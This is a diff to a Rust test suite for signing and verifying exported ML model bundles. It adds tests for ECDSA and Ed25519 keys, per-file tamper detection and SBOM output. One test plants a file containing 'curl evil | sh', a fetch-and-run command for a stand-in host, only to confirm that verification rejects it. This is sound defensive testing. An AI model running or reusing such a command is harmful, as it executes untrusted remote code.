@@ -201,12 +201,146 @@ fn export_is_reproducible_and_verifies_with_sha256sum() {
 }
 
 #[test]
+fn an_openssf_model_signature_covers_every_file() {
+    let tmp = tempfile::tempdir().unwrap();
+    let project = demo(tmp.path());
+    let (key_c, key_d, key_e) = (
+        tmp.path().join("c.key"),
+        tmp.path().join("d.key"),
+        tmp.path().join("e.key"),
+    );
+    let c = sign::new_key(&key_c, sign::KeyType::EcdsaP256).unwrap();
+    sign::new_key(&key_d, sign::KeyType::EcdsaP256).unwrap();
+    sign::new_key(&key_e, sign::KeyType::Ed25519).unwrap();
+    assert!(
+        sign::new_key(&key_c, sign::KeyType::EcdsaP256).is_err(),
+        "keys are never overwritten"
+    );
+    let pem = std::fs::read_to_string(&key_c).unwrap();
+    assert!(pem.starts_with("-----BEGIN PRIVATE KEY-----"), "{pem}");
+    let public_c = sign::read_public(Path::new(&c.public_key)).unwrap();
+    let public_d = sign::read_public(&sign::public_path(&key_d)).unwrap();
+    let public_e = sign::read_public(&sign::public_path(&key_e)).unwrap();
+
+    let dir = tmp.path().join("signed");
+    export(
+        &project,
+        "diabetes_risk_classifier",
+        Some("diabetes_risk"),
+        &dir,
+        Some(&key_c),
+    );
+    assert!(dir.join("model.sig").is_file());
+    assert!(!dir.join("SHA256SUMS.sig").exists());
+    let manifest: Value =
+        serde_json::from_slice(&std::fs::read(dir.join("manifest.json")).unwrap()).unwrap();
+    assert_eq!(manifest["signature"]["algorithm"], "ecdsa-p256-sha256");
+    assert_eq!(manifest["signature"]["signature_file"], "model.sig");
+    for (trusted, status) in [
+        (Some(&public_c), SignatureStatus::Valid),
+        (None, SignatureStatus::Valid),
+        (Some(&public_d), SignatureStatus::Untrusted),
+        // An Ed25519 key cannot have made it: valid, by another key.
+        (Some(&public_e), SignatureStatus::Untrusted),
+    ] {
+        let v = bundle::verify(&dir, trusted).unwrap();
+        assert_eq!(v.signature.status, status, "{:?}", v.signature);
+        assert_eq!(v.ok, status == SignatureStatus::Valid, "{:?}", v.problems);
+    }
+    let v = bundle::verify(&dir, Some(&public_c)).unwrap();
+    assert_eq!(
+        v.signature.fingerprint.as_deref(),
+        Some(c.fingerprint.as_str())
+    );
+
+    // The signed statement lists every file but model.sig, SHA256SUMS and the manifest included.
+    let sig: Value =
+        serde_json::from_slice(&std::fs::read(dir.join("model.sig")).unwrap()).unwrap();
+    use base64::Engine as _;
+    let payload = base64::engine::general_purpose::STANDARD
+        .decode(sig["dsseEnvelope"]["payload"].as_str().unwrap())
+        .unwrap();
+    let statement: Value = serde_json::from_slice(&payload).unwrap();
+    let signed: Vec<&str> = statement["predicate"]["resources"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["name"].as_str().unwrap())
+        .collect();
+    let files = tree(&dir);
+    let mut expected: Vec<String> = files
+        .iter()
+        .map(|(rel, _)| rel.to_str().unwrap().to_owned())
+        .filter(|p| p != "model.sig")
+        .collect();
+    expected.sort();
+    assert_eq!(signed, expected);
+
+    // Flip one byte in each file in turn, the signature included: verification fails and
+    // names that file.
+    for (rel, len) in &files {
+        let copy = tmp
+            .path()
+            .join(format!("t-{}", rel.display()).replace('/', "_"));
+        copy_dir(&dir, &copy);
+        let target = copy.join(rel);
+        let mut bytes = std::fs::read(&target).unwrap();
+        bytes[(*len as usize) / 2] ^= 0x01;
+        std::fs::write(&target, bytes).unwrap();
+        let name = rel.to_str().unwrap();
+        for trusted in [Some(&public_c), None] {
+            let v = bundle::verify(&copy, trusted).unwrap();
+            assert!(!v.ok, "flipping a byte of {name} went unnoticed");
+            assert!(
+                v.files
+                    .iter()
+                    .any(|f| f.path == name && f.status != FileStatus::Ok),
+                "{name} not named: {:?}",
+                v.problems
+            );
+        }
+        std::fs::remove_dir_all(&copy).unwrap();
+    }
+
+    // A file added: listed nowhere, and not signed.
+    let extra = tmp.path().join("extra");
+    copy_dir(&dir, &extra);
+    std::fs::write(extra.join("run.sh"), "curl evil | sh\n").unwrap();
+    let v = bundle::verify(&extra, Some(&public_c)).unwrap();
+    assert!(!v.ok);
+    assert_eq!(v.signature.status, SignatureStatus::Invalid);
+    assert!(
+        v.signature.detail.contains("'run.sh'"),
+        "{}",
+        v.signature.detail
+    );
+
+    // An OpenSSL P-256 key (SEC1 PEM) signs as well.
+    let sec1 = tmp.path().join("openssl.pem");
+    let made = Command::new("openssl")
+        .args([
+            "ecparam",
+            "-name",
+            "prime256v1",
+            "-genkey",
+            "-noout",
+            "-out",
+        ])
+        .arg(&sec1)
+        .status();
+    if made.is_ok_and(|s| s.success()) {
+        let key = sign::read_private(&sec1).unwrap();
+        assert!(matches!(key, sign::PrivateKey::P256(_)));
+    }
+}
+
+#[test]
 fn every_tampered_file_is_named_and_signatures_are_checked() {
     let tmp = tempfile::tempdir().unwrap();
     let project = demo(tmp.path());
     let (key_a, key_b) = (tmp.path().join("a.key"), tmp.path().join("b.key"));
-    let a = sign::new_key(&key_a).unwrap();
-    sign::new_key(&key_b).unwrap();
+    let a = sign::new_key(&key_a, sign::KeyType::Ed25519).unwrap();
+    sign::new_key(&key_b, sign::KeyType::Ed25519).unwrap();
     #[cfg(unix)]
     {
         use std::os::unix::fs::PermissionsExt;
@@ -217,7 +351,10 @@ fn every_tampered_file_is_named_and_signatures_are_checked() {
             "a private key is readable by its owner only"
         );
     }
-    assert!(sign::new_key(&key_a).is_err(), "keys are never overwritten");
+    assert!(
+        sign::new_key(&key_a, sign::KeyType::Ed25519).is_err(),
+        "keys are never overwritten"
+    );
     let public_a = sign::read_public(Path::new(&a.public_key)).unwrap();
     let public_b = sign::read_public(&sign::public_path(&key_b)).unwrap();
 
@@ -266,7 +403,9 @@ fn every_tampered_file_is_named_and_signatures_are_checked() {
     let forged = tmp.path().join("forged");
     copy_dir(&dir, &forged);
     let sums = std::fs::read(forged.join("SHA256SUMS")).unwrap();
-    let b_key = sign::read_private(&key_b).unwrap();
+    let sign::PrivateKey::Ed25519(b_key) = sign::read_private(&key_b).unwrap() else {
+        panic!("an Ed25519 key")
+    };
     std::fs::write(forged.join("SHA256SUMS.sig"), sign::sign(&b_key, &sums)).unwrap();
     let v = bundle::verify(&forged, None).unwrap();
     assert!(!v.ok);
@@ -753,6 +892,7 @@ fn an_export_over_its_memory_limit_writes_the_same_files() {
         "model/MLmodel",
         "MODEL_CARD.md",
         "manifest.json",
+        "sbom.cdx.json",
         "SHA256SUMS",
     ];
     let files = tree(&folders[0]);
